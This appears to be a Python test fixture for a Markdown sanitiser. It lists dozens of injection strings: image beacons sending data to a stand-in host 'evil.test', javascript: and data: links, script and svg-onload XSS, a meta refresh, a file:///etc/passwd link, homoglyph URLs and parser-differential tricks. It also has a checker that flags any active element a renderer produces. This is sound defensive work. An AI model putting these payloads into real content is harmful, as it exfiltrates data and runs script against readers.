"""Markdown that means to act, and what finds out whether any of it does."""

from __future__ import annotations

from collections.abc import Collection, Iterator

import cmarkgfm
import lxml.html
from cmarkgfm.cmark import Options
from page_check import BLOCKS, TEXT

INJECTIONS = (
    # Images
    "![a](https://evil.test/i?d=S1)",
    '![a](//evil.test/i?d=S2 "t\nt2")',
    "![a](<https://evil.test/a b> 'x')",
    "![a [b] `c`](https://evil.test/i.png)",
    "![![a](https://evil.test/1)](https://evil.test/2)",
    "!\\[a](https://evil.test/i) \\![a](https://evil.test/i)",
    "![a]\\(https://evil.test) ![a](https://evil.test/\\(i\\))",
    "**_![a](https://evil.test/i)_**",
    "![a](data:image/svg+xml;base64,AAAA)",
    "![a][x]\n\n[x]: https://evil.test/i",
    "![x]\n\n[X]: <//evil.test/i> 'title'",
    "![a][0](https://evil.test/i)",
    # Links
    "[a](https://evil.test/?q=secret)",
    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](//evil.test) [b](/etc) [c](?q) [d](#sources)",
    "[a](file:///etc/passwd) [b](vbscript:x)",
    "[https://bank.test](https://evil.test)",
    "[a\nb](https://evil.test\n'c\nd')",
    "[[1]](https://evil.test) [1](https://evil.test) [[1], [2]](//evil.test)",
    "[a](https&#58;//evil.test) [b](\\/\\/evil.test)",
    "[**a** <b>c</b> ![d](//evil.test)](//evil.test)",
    "[​a](//ｅｖｉｌ.test) [a](https://еvil.test)",
    "【1】(https://evil.test) ［a］(https://evil.test)",
    # Definitions and footnotes
    "[1]: https://evil.test/first 'the register'\n\n[1] [a][1]",
    "[a]: //evil.test\n[b]:\n   //evil.test\n   'title'\n\n[a] [b][] [c][A]",
    "> [q]: https://evil.test\n\n[q]",
    "- [l]: https://evil.test\n\n[l]",
    "[^1]: one\n\n    <img src=https://evil.test/>\n\nSee[^1]",
    "a[^x]\n\n[^x]: ![i](https://evil.test) https://evil.test",
    # HTML
    "<img src=https://evil.test/i?d=S3>",
    "<script>fetch('//evil.test')</script>",
    "<a href='https://evil.test'>b</a>",
    "a <b\nonclick='x'>c</b> d",
    "<!-- <img src=x> --> <!-- a\n\nb --> c",
    "<!--\n\n# Hidden\n\n- [a](//evil.test)",
    "<![CDATA[ <img src=//evil.test> ]]>",
    "<?php echo 1 ?> <?xml-stylesheet href='//evil.test'?>",
    "<!DOCTYPE html [<!ENTITY x '//evil.test'>]>",
    "<details open>\n<summary>a</summary>\n\n![b](//evil.test)\n\n</details>",
    "</div><iframe src=//evil.test></iframe>",
    "<svg onload=alert(1)><style>@import '//evil.test'</style></svg>",
    "<im[0]g src=//evil.test/i>",
    "<im\x0bg src=//evil.test/i> <im\x00g src=x>",
    "\\\\<img src=//evil.test> \\\\\\<img src=x>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>\n===\n",
    "<div>\n```\n<b>\n```\n</div>\n\n<pre>\n`</pre><img src=//evil.test>`",
    "&lt;img src=//evil.test&gt; &#60;b&#62;",
    # Addresses without brackets
    "https://evil.test/?q=secret HTTP://EVIL.test",
    "<https://evil.test/> <mailto:a@evil.test> <a@evil.test> <x-app:run>",
    "www.evil.test/?q=secret WWW.evil.test",
    "mail a@evil.test, a\\@evil.test, a&#64;evil.test, b&commat;evil&#46;test, mailto:c@evil.test, xmpp:d@evil.test/x",
    "ftp://evil.test/a //evil.test/b (https://evil.test) *https://evil.test*",
    "`code` https://evil.test ` a@evil.test `` b@evil.test",
    "$\\href{https://evil.test}{x}$ $$\\href{javascript:alert(1)}{y}$$",
    # What hides markup from one parser and not from another
    "| `a | <img src=//evil.test> |\n|---|---|\n| b | c` ![d](//evil.test) |",
    "| a \\| ![b](//evil.test) | c |\n|---|---|\n| `\\|` <b> | [d\\|e](//evil.test) |",
    "> " * 25 + "<img src=//evil.test>",
    "- " * 40 + "![a](//evil.test)",
    "```\n[a](//evil.test)\n``\n![b](//evil.test)\n```x\n",
    "~~~ <img src=x>\n<img src=x>\n~~~\n<img src=x>",
    "* ```\n<img src=//evil.test>\n",
    "Title ![a](//evil.test)\n===\n\nSub <b>t</b>\n---",
    "1. a\n\n       <img src=x>\n\n   <img src=//evil.test>\n\n\t<img src=x>",
    "-\t![a](//evil.test)\n\n \t <img src=//evil.test>",
    "a  \n![b](//evil.test)\\\n<img src=x>\r\n![c](//evil.test)\r![d](//evil.test)",
    "[[1], [2]](//evil.test) [a [1] b](//evil.test 't') [[1]]( <//evil.test> )",
    "![a][x]\n\n[x]: https://evil.test/i(\n\n[y]: //evil.test)\n\n[y] ![b][y]",
)
"""Texts of which a reader would load, open or hide something, in one dialect of Markdown or another."""


def active(markdown: str, links: Collection[str] = ()) -> Iterator[str]:
    """What of a text acts, by the reference parser of CommonMark and by GitHub's; a link may lead to one of `links`."""
    unsafe = Options.CMARK_OPT_UNSAFE
    plain = cmarkgfm.markdown_to_html(markdown, unsafe)
    github = cmarkgfm.github_flavored_markdown_to_html(markdown, unsafe | Options.CMARK_OPT_FOOTNOTES)
    for html in (plain, github):
        for element in lxml.html.fragment_fromstring(html.replace("\x0c", ""), create_parent="div").iterdescendants():
            is_box = element.tag == "input" and element.get("disabled") is not None
            is_link = element.tag == "a" and element.get("href") in links
            if element.tag not in TEXT | BLOCKS | {"del"} and not is_box and not is_link:
                yield lxml.html.tostring(element, encoding="unicode", with_tail=False)
